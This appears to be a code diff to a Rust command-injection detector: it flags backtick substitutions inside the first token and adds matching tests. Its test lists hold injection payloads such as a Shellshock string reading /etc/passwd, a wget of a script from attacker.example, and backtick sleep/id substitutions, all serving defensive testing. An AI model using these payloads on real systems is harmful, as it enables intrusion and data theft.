@@ -152,6 +152,12 @@ fn binary_path(s: &[u8], i: usize) -> bool {
     (binary_dir && name.iter().any(u8::is_ascii_alphabetic)) || (globbed(path) && !name.contains(&b'.') && dir.len() <= 8 && name.len() <= 8 && name.iter().any(|&b| b.is_ascii_alphabetic() || b == b'?'))
 }
 
+/// Whether the backtick at `s[i]` opens a substitution whose closing backtick is followed by the
+/// value's end or more of the token.
+fn inside_token(s: &[u8], i: usize) -> bool {
+    classes::find_byte(b'`', &s[i + 1..]).is_some_and(|k| s.get(i + k + 2).is_none_or(|&b| !matches!(b, b' ' | b'\t' | b'\n')))
+}
+
 /// Looks for command injection in a normalized value. Returns (confirmed, suspicious).
 pub fn detect(s: &[u8], mask: Mask) -> (bool, bool) {
     use classes::{AMP, BACKTICK, DOLLAR, NEWLINE, PIPE, SEMI};
@@ -178,8 +184,10 @@ pub fn detect(s: &[u8], mask: Mask) -> (bool, bool) {
         let after = match b {
             b';' | b'|' | b'&' | b'\n' => i + 1 + usize::from(matches!(s.get(i + 1), Some(b'|' | b'&'))),
             b'$' if s.get(i + 1) == Some(&b'(') => i + 2,
-            // A backtick at the start, or after a separator, blank or quote: not Markdown prose.
-            b'`' if i == 0 || matches!(s[i - 1], b';' | b'|' | b'&' | b'\'' | b'"' | b'(' | b'=' | b'\n') => i + 1,
+            // A backtick at the start, after a separator, blank or quote, or a substitution
+            // inside the first token (`a`sleep 5`5`, `x`id``): not Markdown prose, whose code
+            // spans follow words and end before a blank.
+            b'`' if i == 0 || matches!(s[i - 1], b';' | b'|' | b'&' | b'\'' | b'"' | b'(' | b'=' | b'\n') || (i < first_blank && inside_token(s, i)) => i + 1,
             b'`' => {
                 suspicious |= command_at(s, i + 1, true, false).1;
                 continue;
@@ -241,6 +249,8 @@ mod tests {
             "() { :;}; echo; echo; echo $(/bin/cat /etc/passwd)",
             "1\nenv;",
             "Ran: the nightly job; wget http://attacker.example/x.sh",
+            "a`sleep 60`5",
+            "x`id`",
         ] {
             assert!(cmd(p).0, "{p}");
         }
@@ -263,6 +273,8 @@ mod tests {
             "Ran: sudo systemctl restart nginx; cat /var/log/nginx/error.log | tail -n 50",
             "```sh\nrm -rf node_modules\n```",
             "Output of the check:\nuname -a\nLinux box 6.1",
+            "it`s fine, don`t sleep 5 minutes",
+            "use`ls -la` and `cat x` there",
         ] {
             assert!(!cmd(t).0, "{t}");
         }
